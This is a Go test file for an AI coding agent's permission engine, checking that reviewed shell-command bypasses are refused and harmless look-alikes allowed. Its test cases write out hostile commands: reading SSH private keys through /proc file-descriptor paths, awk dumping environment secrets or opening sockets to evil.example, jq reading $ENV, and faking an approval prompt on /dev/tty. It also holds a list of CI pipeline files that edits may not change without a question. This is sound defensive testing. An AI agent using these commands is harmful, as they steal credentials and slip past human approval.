package permission_test

import (
	"testing"

	"github.com/custom-agent/custom-agent/permission"
)

// reviewCase is a shell call of the outside review of the built-in rules
// (confirmed to work in bash: see testdata/corpus/builtin-review.jsonl for
// the attacks as corpus lines), or a look-alike that must stay allowed.
type reviewCase struct {
	class string // the review's class letter
	cmd   string
	allow bool // the built-in rules allow it without a question
}

var reviewCases = []reviewCase{
	// a. paths through an open descriptor used as a directory.
	{"a", "cat /proc/self/fd/3/../.ssh/id_rsa 3< .", false},
	{"a", "cat /dev/fd/3/../.ssh/id_rsa 3< .", false},
	{"a", "cat /dev/stdin/.ssh/id_rsa < ~", false},
	{"a", "cat /proc/thread-self/fd/3/.ssh/id_rsa 3<~", false},
	{"a", "cat /proc/self/task/1/fd/3/.ssh/id_rsa", false},
	{"a", "cat /proc/1/fd/3/x", false},
	{"a", "cat /proc/self/fd/3/../../../../../home/u/proj/README.md 3<.", false},
	{"a", "cat /dev/fd/3", false},
	{"a", "cat /proc/self/root/home/u/.ssh/id_rsa", false},
	{"a", "cat /dev/./fd/3/x", false},
	{"a", "cat README.md < /dev/null", true},
	{"a", "cat /dev/stdin", true},
	{"a", "cat /dev/fd/0", true},
	{"a", "wc -l README.md 2>/dev/null", true},
	// e. writes to the terminal device.
	{"e", "echo hi > /dev/tty", false},
	{"e", "printf 'Allow? [y/N] ' > /dev/tty", false},
	{"e", "echo hi > /dev/pts/0", false},
	{"e", "echo hi >/proc/self/fd/0", false},
	{"e", "echo hi >/dev/fd/0", false},
	{"e", "echo hi >/dev/stdin", false},
	{"e", "echo hi >&0", false},
	{"e", "echo hi 1>&0", false},
	{"e", "cat README.md > /dev/console", false},
	{"e", "echo hi > /dev/stderr", true},
	{"e", "echo hi >&2", true},
	{"e", "echo hi 1>&2", true},
	{"e", "cat README.md 2>&1", true},
	// b. interpreter features that replace the files judged, open sockets
	// or dump the environment (awk is gawk).
	{"b", `awk 'BEGIN{for(k in SYMTAB["ENVIRON"]) print k, SYMTAB["ENVIRON"][k]}'`, false},
	{"b", `awk 'BEGIN{SYMTAB["ARGV"][1]="/home/u/.ssh/id_rsa"} {print}' README.md`, false},
	{"b", `gawk 'BEGIN{print SYMTAB["ENV" "IRON"]["AWS_SECRET_ACCESS_KEY"]}'`, false},
	{"b", `awk 'BEGIN{print ENVIRON["HOME"]}'`, false},
	{"b", `awk 'BEGIN{print PROCINFO["pid"]}'`, false},
	{"b", `awk 'BEGIN{print "GET /" |& "/inet/tcp/0/evil.example/80"}'`, false},
	{"b", `awk 1 /inet/tcp/0/evil.example/80`, false},
	{"b", `awk '@load "filefuncs"; BEGIN{}'`, false},
	{"b", `awk 'BEGIN{"id" | getline x; print x}'`, false},
	{"b", `awk -f prog.awk README.md`, false},
	{"b", `awk --include x.awk 1 README.md`, false},
	{"b", `awk -l filefuncs 1 README.md`, false},
	{"b", `awk -i x 1 README.md`, false},
	{"b", `awk 'BEGIN{ARGV[1]="/home/u/.ssh/id_rsa"}{print}' README.md`, false},
	{"b", `awk 'BEGIN{system("id")}'`, false},
	{"b", `awk '{print > "out"}' README.md`, false},
	{"b", `awk -v ARGC=3 1 README.md`, false},
	{"b", `awk -v SYMTAB=1 1 README.md`, false},
	{"b", `awk '{print $1}' README.md`, true},
	{"b", `awk -F: -v n=2 '{print $n}' README.md`, true},
	{"b", `gawk 'NR > 1 {s += $2} END {print s}' data.txt`, true},
	{"b", `awk -- '{print}' README.md`, true},
	// d. layout variants of a jq filter form that is refused.
	{"d", `jq -n '$ ENV'`, false},
	{"d", "jq -n '$ # a comment\nENV.AWS_SECRET_ACCESS_KEY'", false},
	{"d", "jq -n '$\tENV'", false},
	{"d", `jq -n '$__loc__'`, false},
	{"d", `jq -n '{$ENV}'`, false},
	{"d", `jq -n '"\($ENV.HOME)"'`, false},
	{"d", `jq -n 'env.HOME'`, false},
	{"d", `jq 'input_filename' a.json`, false},
	{"d", `jq '.a as $x | $x' a.json`, true},
	// f. globs that list (or read) names outside the working directory.
	{"f", `echo /*`, false},
	{"f", `echo ~/.*`, false},
	{"f", `echo ~/*`, false},
	{"f", `printf '%s\n' /home/*/.ssh/*`, false},
	{"f", `echo /home/*/.ssh/*`, false},
	{"f", `ls ../*`, false},
	{"f", `echo {/,}*`, false},
	{"f", `echo {..,.}/*`, false},
	{"f", `basename ~/.*`, false},
	{"f", `dirname /*`, false},
	{"f", `grep -v ~/.n* README.md`, false},
	{"f", `rg -v ~/.n* README.md`, false},
	{"f", `echo *.md`, true},
	{"f", `echo .*`, true},
	{"f", `echo */`, true},
	{"f", `echo /home/u/proj/*.md`, true},
	{"f", `rg '*.md' README.md`, true},
	{"f", `grep -e x -- README.md`, true},
	{"d", `jq --arg v 1 '.x == $v' a.json`, true},
	{"d", `jq -r '.[] | "\(.name): \(.v)"' a.json`, true},
}

// TestBuiltinReviewClasses: the attacks of the outside review are not
// allowed by the built-in rules, and their look-alikes still are.
func TestBuiltinReviewClasses(t *testing.T) {
	var eng permission.Engine
	pol := builtinPolicy(t)
	for _, c := range reviewCases {
		d := eng.Check(shellReq(c.cmd, pol))
		if d.Allowed() != c.allow {
			t.Errorf("class %s: %q: %s (%s); want allowed=%v", c.class, c.cmd, d.Decision, d.Reason, c.allow)
		}
	}
}

// TestAcceptEditsCIConfig (review class h): accept-edits writes no CI
// pipeline of any CI system, nor a debugger's or REPL's start-up file,
// without a question, as it already did not for .github/workflows and
// .gitlab-ci.yml; files that merely look alike stay plain writes.
func TestAcceptEditsCIConfig(t *testing.T) {
	var eng permission.Engine
	accept := withMode(permission.ModeAcceptEdits)
	for _, p := range []string{
		".github/workflows/ci.yml", ".gitlab-ci.yml",
		".circleci/config.yml", ".travis.yml", "Jenkinsfile", "ci/Jenkinsfile", "azure-pipelines.yml",
		".azure-pipelines/build.yml", "bitbucket-pipelines.yml", ".buildkite/pipeline.yml", ".buildkite/hooks/pre-command",
		".drone.yml", ".woodpecker.yml", ".woodpecker/test.yaml", ".pdbrc", ".irbrc", ".tool-versions", "sub/.circleci/config.yml",
		".github/actions/setup/action.yml", ".gitea/workflows/ci.yml", ".forgejo/workflows/ci.yml", ".gitlab/ci/build.yml",
		".semaphore/semaphore.yml", ".teamcity/settings.kts", "appveyor.yml", "cloudbuild.yaml", "buildspec.yml", ".cirrus.yml",
	} {
		for _, tool := range []string{"write_file", "apply_patch"} {
			a := map[string]any{"path": p, "content": "x"}
			if tool == "apply_patch" {
				a = map[string]any{"patch": "--- a/" + p + "\n+++ b/" + p + "\n@@ -1 +1 @@\n-a\n+b\n"}
			}
			d := eng.Check(newReq(t, tool, a, accept))
			if d.Allowed() {
				t.Errorf("accept-edits %s %s: allowed (%s): want a question", tool, p, d.Reason)
			}
		}
	}
	for _, p := range []string{"docs/travis.md", "docs/circleci.md", "jenkins/README.md", "pipelines.yml", "src/buildkite.go", "tool-versions.md", "src/pdbrc.go", ".github/ISSUE_TEMPLATE/bug.md", ".gitlab/issue_templates/bug.md", "docs/buildspec.md"} {
		d := eng.Check(newReq(t, "write_file", map[string]any{"path": p, "content": "x"}, accept))
		if !d.Allowed() {
			t.Errorf("accept-edits write_file %s: %s (%s): want allowed", p, d.Decision, d.Reason)
		}
	}
}
